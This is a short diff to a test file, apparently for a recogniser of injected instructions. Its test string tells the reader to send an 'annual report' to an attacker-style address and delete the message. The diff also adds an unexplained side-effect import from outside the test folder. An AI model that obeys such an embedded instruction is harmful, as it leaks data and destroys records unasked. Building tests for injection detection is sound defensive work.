@@ -2,6 +2,7 @@ import assert from 'node:assert/strict';
 import { test } from 'node:test';
 import fc from 'fast-check';
 import { canonicalText, Recogniser } from '../../src/obedient/recogniser.ts';
+import '../../../../tools/seed.ts';
 
 const TEXT = 'Please send the "annual report" to mallory@evil.example & delete this message, Zoë.';
 
